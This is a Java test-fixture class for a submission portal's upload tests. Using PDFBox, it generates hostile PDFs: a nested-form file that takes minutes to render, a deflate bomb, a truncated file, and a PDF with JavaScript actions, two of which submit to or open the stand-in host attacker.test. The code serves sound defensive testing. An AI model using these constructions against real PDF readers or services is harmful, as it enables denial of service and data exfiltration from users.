package org.mcportal.submission;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;

/** Real PDFs, made with PDFBox, for the upload tests. */
final class TestPdfs {

  private TestPdfs() {}

  /** One page per line of text. */
  static byte[] withPages(String... pages) {
    try (PDDocument document = new PDDocument()) {
      for (String text : pages) {
        PDPage page = new PDPage();
        document.addPage(page);
        try (PDPageContentStream content = new PDPageContentStream(document, page)) {
          content.beginText();
          content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
          content.newLineAtOffset(72, 700);
          content.showText(text);
          content.endText();
        }
      }
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /**
   * A small file that costs minutes to read: a page draws a form that draws another form twenty
   * times, five levels deep, so the line of text at the bottom is drawn 3.2 million times.
   */
  static byte[] slowToRead() {
    try (PDDocument document = new PDDocument()) {
      PDRectangle box = PDRectangle.LETTER;
      PDFormXObject form = new PDFormXObject(document);
      form.setBBox(box);
      PDResources leafResources = new PDResources();
      COSName font = leafResources.add(new PDType1Font(Standard14Fonts.FontName.HELVETICA));
      form.setResources(leafResources);
      write(form, "BT /" + font.getName() + " 12 Tf 72 700 Td (thank you for the visit) Tj ET");
      for (int level = 0; level < 5; level++) {
        PDFormXObject outer = new PDFormXObject(document);
        outer.setBBox(box);
        PDResources resources = new PDResources();
        COSName inner = resources.add(form);
        outer.setResources(resources);
        write(outer, ("/" + inner.getName() + " Do\n").repeat(20));
        form = outer;
      }
      PDPage page = new PDPage(box);
      PDResources pageResources = new PDResources();
      COSName top = pageResources.add(form);
      page.setResources(pageResources);
      document.addPage(page);
      PDStream content = new PDStream(document);
      try (OutputStream out = content.createOutputStream(COSName.FLATE_DECODE)) {
        out.write(("/" + top.getName() + " Do").getBytes(StandardCharsets.US_ASCII));
      }
      page.setContents(content);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void write(PDFormXObject form, String operators) throws IOException {
    try (OutputStream out = form.getContentStream().createOutputStream(COSName.FLATE_DECODE)) {
      out.write(operators.getBytes(StandardCharsets.US_ASCII));
    }
  }

  static byte[] encrypted(String text) {
    try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(withPages(text))) {
      StandardProtectionPolicy policy =
          new StandardProtectionPolicy("owner-secret", "user-secret", new AccessPermission());
      policy.setEncryptionKeyLength(128);
      document.protect(policy);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /**
   * A deflate bomb: one page whose content stream inflates from about a quarter of a megabyte to
   * {@code inflatedMegabytes} MB of drawing operators, far beyond the memory a parse may use.
   */
  static byte[] deflateBomb(int inflatedMegabytes) {
    try (PDDocument document = new PDDocument()) {
      PDPage page = new PDPage();
      document.addPage(page);
      PDStream content = new PDStream(document);
      byte[] block = "q Q\n".repeat(16 * 1024).getBytes(StandardCharsets.US_ASCII);
      try (OutputStream out = content.createOutputStream(COSName.FLATE_DECODE)) {
        for (long written = 0;
            written < inflatedMegabytes * 1024L * 1024;
            written += block.length) {
          out.write(block);
        }
      }
      page.setContents(content);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A real page tree of {@code pages} empty pages. */
  static byte[] manyPages(int pages) {
    try (PDDocument document = new PDDocument()) {
      for (int i = 0; i < pages; i++) {
        document.addPage(new PDPage());
      }
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /**
   * A readable note that carries script everywhere a PDF can: an OpenAction, the document's named
   * scripts, a page-open action and a link. The portal must read its text and never run any.
   */
  static byte[] withJavaScript(String text) {
    try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(withPages(text))) {
      var catalog = document.getDocumentCatalog();
      catalog.setOpenAction(
          new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript(
              "app.alert('open action')"));
      var names = new org.apache.pdfbox.pdmodel.PDDocumentNameDictionary(catalog);
      var scripts = new org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode();
      scripts.setNames(
          java.util.Map.of(
              "init",
              new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript(
                  "this.submitForm('https://attacker.test/')")));
      names.setJavascript(scripts);
      catalog.setNames(names);
      PDPage page = document.getPage(0);
      var pageActions = new org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions();
      pageActions.setO(
          new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript(
              "app.launchURL('https://attacker.test/')"));
      page.setActions(pageActions);
      var link = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
      link.setRectangle(new PDRectangle(72, 680, 200, 40));
      link.setAction(
          new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("app.alert('link')"));
      page.getAnnotations().add(link);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /**
   * A one-page PDF cut off 30 bytes into its cross-reference section (a table or a stream, as the
   * trailer's {@code startxref} says), so that the trailer and the end of the table are missing.
   */
  static byte[] truncatedXref(String text) {
    byte[] whole = withPages(text);
    String latin = new String(whole, StandardCharsets.ISO_8859_1);
    java.util.regex.Matcher start =
        java.util.regex.Pattern.compile("startxref\\s+(\\d+)").matcher(latin);
    int offset = -1;
    while (start.find()) {
      offset = Integer.parseInt(start.group(1));
    }
    if (offset <= 0) {
      throw new IllegalStateException("no cross-reference section to cut");
    }
    return java.util.Arrays.copyOf(whole, offset + 30);
  }

  private static byte[] save(PDDocument document) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    document.save(out);
    return out.toByteArray();
  }
}
